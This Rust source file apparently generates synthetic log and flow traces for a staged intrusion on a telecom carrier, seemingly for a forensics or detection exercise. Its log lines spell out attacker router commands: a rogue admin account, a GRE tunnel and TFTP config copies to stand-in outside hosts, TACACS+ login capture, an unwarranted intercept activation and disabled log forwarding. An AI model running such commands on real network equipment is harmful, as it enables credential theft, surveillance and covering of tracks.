//! The intrusion (told step by step in `docs/demo.md`): a web-UI flaw on an edge router, a local
//! administrator account, a GRE tunnel to an outside host, a capture of TACACS+ logins, lateral
//! logins with the captured credentials, the LI administration system, call-record lookups of
//! protected subscribers, exfiltration over the tunnel, and log forwarding turned off.

use jiff::{SignedDuration, Timestamp};

use crate::carrier::*;
use crate::rng::Rng;
use crate::{start, Logs, StoryFlows};

/// The intruder's infrastructure (RFC 5737 documentation addresses).
pub const EXPLOIT_SOURCE: &str = "203.0.113.66";
pub const TUNNEL_END: &str = "203.0.113.77";
pub const DROP_HOST: &str = "203.0.113.88";

fn t(day: i64, h: i64, m: i64, s: i64) -> Timestamp {
    start() + SignedDuration::from_secs(day * 86_400 + h * 3600 + m * 60 + s)
}

/// Writes the intrusion's traces; returns when edge-rtr-03 stopped forwarding its logs.
pub fn intrusion(c: &Carrier, rng: &mut Rng, logs: &mut Logs, flows: &mut StoryFlows) -> Timestamp {
    let edge = c.devices.iter().find(|d| d.name == "edge-rtr-03").unwrap_or(&c.devices[0]);
    let mut seq = 900_000u64;
    let mut cisco = |logs: &mut Logs, dev: &Device, at: Timestamp, code: &str, text: String| {
        seq += 1;
        logs.push("syslog/network.log", at, cisco_line(at, dev, seq, code, &text));
    };
    let mut flow =
        |at: Timestamp, secs: f64, src: &str, dst: &str, sp: u16, dp: u16, proto: &str, pk: u64, by: u64, exp: &str| {
            flows.rows.push((at, nfdump_row(at, secs, src, dst, sp, dp, proto, pk, by, exp)));
        };

    // Step 1 (Wed 2 Oct, 01:12): the web UI of edge-rtr-03 is exploited from the internet.
    let s1 = t(2, 1, 12, 7);
    for i in 0..6 {
        flow(
            s1 + SignedDuration::from_secs(i * 9),
            1.2,
            EXPLOIT_SOURCE,
            &edge.ip,
            40000 + i as u16,
            443,
            "TCP",
            14,
            6800,
            &edge.ip,
        );
    }
    cisco(
        logs,
        edge,
        s1 + SignedDuration::from_secs(20),
        "SEC_LOGIN-5-WEBLOGIN_SUCCESS",
        format!("Login Success [user: cisco_tac_admin] [Source: {EXPLOIT_SOURCE}] [localport: 443] at {s1}"),
    );
    cisco(
        logs,
        edge,
        s1 + SignedDuration::from_secs(31),
        "SYS-5-CONFIG_P",
        "Configured programmatically by process SEP_webui_wsma_http from console as cisco_tac_admin on line".into(),
    );
    cisco(
        logs,
        edge,
        s1 + SignedDuration::from_secs(44),
        "WEBUI-6-INSTALL_OPERATION_INFO",
        "User: cisco_tac_admin, Install Operation: ADD bootflash:taccfg.conf".into(),
    );

    // Step 2 (01:18): a local administrator account, then an SSH login with it.
    let s2 = t(2, 1, 18, 40);
    cisco(
        logs,
        edge,
        s2,
        "PARSER-5-CFGLOG_LOGGEDCMD",
        "User:cisco_tac_admin  logged command:username svc-ops privilege 15 secret 0 ********".into(),
    );
    cisco(
        logs,
        edge,
        s2 + SignedDuration::from_secs(3),
        "SYS-5-CONFIG_I",
        format!("Configured from console by cisco_tac_admin on vty0 ({EXPLOIT_SOURCE})"),
    );
    let s2b = s2 + SignedDuration::from_secs(95);
    flow(s2b, 1800.0, EXPLOIT_SOURCE, &edge.ip, 51522, 22, "TCP", 900, 210_000, &edge.ip);
    cisco(
        logs,
        edge,
        s2b,
        "SEC_LOGIN-5-LOGIN_SUCCESS",
        format!("Login Success [user: svc-ops] [Source: {EXPLOIT_SOURCE}] [localport: 22] at {s2b}"),
    );

    // Step 3 (01:27): a GRE tunnel to an outside host.
    let s3 = t(2, 1, 27, 5);
    for (i, cmd) in [
        "interface Tunnel42",
        "ip address 172.31.255.1 255.255.255.252",
        "tunnel source Loopback0",
        &format!("tunnel destination {TUNNEL_END}"),
    ]
    .iter()
    .enumerate()
    {
        cisco(
            logs,
            edge,
            s3 + SignedDuration::from_secs(i as i64 * 6),
            "PARSER-5-CFGLOG_LOGGEDCMD",
            format!("User:svc-ops  logged command:{cmd}"),
        );
    }
    cisco(
        logs,
        edge,
        s3 + SignedDuration::from_secs(30),
        "SYS-5-CONFIG_I",
        format!("Configured from console by svc-ops on vty0 ({EXPLOIT_SOURCE})"),
    );
    cisco(
        logs,
        edge,
        s3 + SignedDuration::from_secs(33),
        "LINEPROTO-5-UPDOWN",
        "Line protocol on Interface Tunnel42, changed state to up".into(),
    );
    flow(s3 + SignedDuration::from_secs(40), 600.0, &edge.ip, TUNNEL_END, 0, 0, "GRE", 220, 31_000, &edge.ip);

    // Step 4 (01:39): a packet capture of TACACS+ (TCP/49) on the router.
    let s4 = t(2, 1, 39, 12);
    for (i, cmd) in [
        "monitor capture tac interface GigabitEthernet0/0/1 both",
        "monitor capture tac match ipv4 any any eq 49",
        "monitor capture tac buffer size 10",
        "monitor capture tac start",
    ]
    .iter()
    .enumerate()
    {
        cisco(
            logs,
            edge,
            s4 + SignedDuration::from_secs(i as i64 * 7),
            "PARSER-5-CFGLOG_LOGGEDCMD",
            format!("User:svc-ops  logged command:{cmd}"),
        );
    }
    // The morning's administrator logins pass through the capture (ordinary background traffic).
    let s4b = t(2, 9, 5, 0);
    cisco(
        logs,
        edge,
        s4b,
        "PARSER-5-CFGLOG_LOGGEDCMD",
        "User:svc-ops  logged command:monitor capture tac export bootflash:tac.pcap".into(),
    );

    // Step 5 (Thu 3 Oct, 02:40): lateral logins from edge-rtr-03 with bob's captured password.
    let victims: Vec<&Device> =
        c.devices.iter().filter(|d| ["core-rtr-01", "core-rtr-02", "agg-sw-04"].contains(&d.name.as_str())).collect();
    for (i, dev) in victims.iter().enumerate() {
        let at = t(3, 2, 40 + 7 * i as i64, 3);
        flow(at, 420.0, &edge.ip, &dev.ip, 50100 + i as u16, 22, "TCP", 380, 64_000, &dev.ip);
        cisco(
            logs,
            dev,
            at + SignedDuration::from_secs(2),
            "SEC_LOGIN-5-LOGIN_SUCCESS",
            format!("Login Success [user: bob] [Source: {}] [localport: 22] at {at}", edge.ip),
        );
        let task = (70000 + i).to_string();
        let port = format!("tty{}", 3 + i);
        logs.push(
            "aaa/tacacs.acct",
            at,
            tacacs_line(
                at,
                &dev.ip,
                "bob",
                &port,
                &edge.ip,
                "start",
                &[("task_id", task.clone()), ("service", "shell".into()), ("priv-lvl", "15".into())],
            ),
        );
        for (k, cmd) in
            ["show running-config", "show tacacs", &format!("copy running-config tftp://{DROP_HOST}/{}.cfg", dev.name)]
                .iter()
                .enumerate()
        {
            let ct = at + SignedDuration::from_secs(20 + 15 * k as i64);
            logs.push(
                "aaa/tacacs.acct",
                ct,
                tacacs_line(
                    ct,
                    &dev.ip,
                    "bob",
                    &port,
                    &edge.ip,
                    "stop",
                    &[
                        ("task_id", task.clone()),
                        ("service", "shell".into()),
                        ("priv-lvl", "15".into()),
                        ("cmd", format!("{cmd} <cr>")),
                    ],
                ),
            );
        }
        flow(
            at + SignedDuration::from_secs(52),
            4.0,
            &dev.ip,
            DROP_HOST,
            49152 + i as u16,
            69,
            "UDP",
            95,
            88_000,
            &dev.ip,
        );
    }

    // Step 6 (03:31): the LI administration server, with li-op2's password, from the router.
    let s6 = t(3, 3, 31, 40);
    logs.push(
        "hosts/admf-01-auth.log",
        s6,
        format!(
            "{} {} sshd[{}]: Accepted password for li-op2 from {} port 51911 ssh2",
            bsd_time(s6),
            ADMF.0,
            23000 + rng.below(900),
            edge.ip
        ),
    );
    flow(s6, 1500.0, &edge.ip, ADMF.1, 51911, 22, "TCP", 2100, 940_000, &edge.ip);
    let li_t = s6 + SignedDuration::from_secs(40);
    logs.push("li/li-audit.jsonl", li_t, li_record(li_t, "li-op2", &edge.ip, "login", serde_json::json!({})));
    let list_t = li_t + SignedDuration::from_secs(30);
    logs.push(
        "li/li-audit.jsonl",
        list_t,
        li_record(
            list_t,
            "li-op2",
            &edge.ip,
            "list_all",
            serde_json::json!({"query": {"scope": "list_all", "result_count": 37}}),
        ),
    );
    for i in 0..24 {
        let qt = list_t + SignedDuration::from_secs(15 + 20 * i);
        let xid = format!("{:08x}-0000-4000-8000-{:012x}", rng.next_u64() as u32, rng.next_u64() & 0xffff_ffff_ffff);
        logs.push(
            "li/li-audit.jsonl",
            qt,
            li_record(qt, "li-op2", &edge.ip, "task_query", serde_json::json!({"task": {"xid": xid}})),
        );
    }
    // An intercept on the campaign chair's number, with no warrant behind it.
    let act = list_t + SignedDuration::from_secs(600);
    logs.push("li/li-audit.jsonl", act, li_record(act, "li-op2", &edge.ip, "target_activate", serde_json::json!({
        "task": {"xid": "7d1e5a90-0000-4000-8000-00000000c0de", "targets": [{"type": "msisdn", "value": c.watchlist[0].0}], "delivery_type": "X2andX3"}})));

    // Step 7 (04:10): call records of the protected subscribers and a sweep of many others, through
    // the reporting service account, exported.
    let s7 = t(3, 4, 10, 0);
    for (i, (msisdn, _)) in c.watchlist.iter().enumerate() {
        let qt = s7 + SignedDuration::from_secs(40 * i as i64);
        logs.push(
            "cdr/cdr-audit.csv",
            qt,
            cdr_row(
                qt,
                "svc-report",
                &edge.ip,
                "service",
                "sql",
                "cdr_lookup",
                "other",
                "",
                msisdn,
                300 + rng.below(900),
                false,
            ),
        );
    }
    for i in 0..70 {
        let qt = s7 + SignedDuration::from_secs(300 + 30 * i);
        let sub = c.subscribers[(i as usize * 61) % c.subscribers.len()].clone();
        logs.push(
            "cdr/cdr-audit.csv",
            qt,
            cdr_row(
                qt,
                "svc-report",
                &edge.ip,
                "service",
                "sql",
                "cdr_lookup",
                "other",
                "",
                &sub,
                50 + rng.below(500),
                false,
            ),
        );
    }
    let ex = s7 + SignedDuration::from_secs(2500);
    logs.push(
        "cdr/cdr-audit.csv",
        ex,
        cdr_row(
            ex,
            "svc-report",
            &edge.ip,
            "service",
            "sql",
            "bulk_export",
            "other",
            "",
            &c.watchlist[0].0,
            41_000,
            true,
        ),
    );
    flow(ex, 900.0, CDR_DB.1, &edge.ip, 5432, 51988, "TCP", 120_000, 160_000_000, &edge.ip);

    // Step 8 (05:00): out through the tunnel, 1.2 GB in an hour.
    let s8 = t(3, 5, 0, 0);
    for i in 0..12 {
        flow(
            s8 + SignedDuration::from_secs(300 * i),
            290.0,
            &edge.ip,
            TUNNEL_END,
            0,
            0,
            "GRE",
            80_000,
            100_000_000,
            &edge.ip,
        );
    }

    // Step 9 (06:15): log forwarding off and the buffer cleared; edge-rtr-03 goes quiet.
    let s9 = t(3, 6, 15, 30);
    cisco(logs, edge, s9, "PARSER-5-CFGLOG_LOGGEDCMD", "User:svc-ops  logged command:no logging host 10.0.1.20".into());
    cisco(
        logs,
        edge,
        s9 + SignedDuration::from_secs(1),
        "SYS-6-LOGGINGHOST_STARTSTOP",
        "Logging to host 10.0.1.20 port 514 stopped - CLI initiated".into(),
    );
    s9 + SignedDuration::from_secs(1)
}
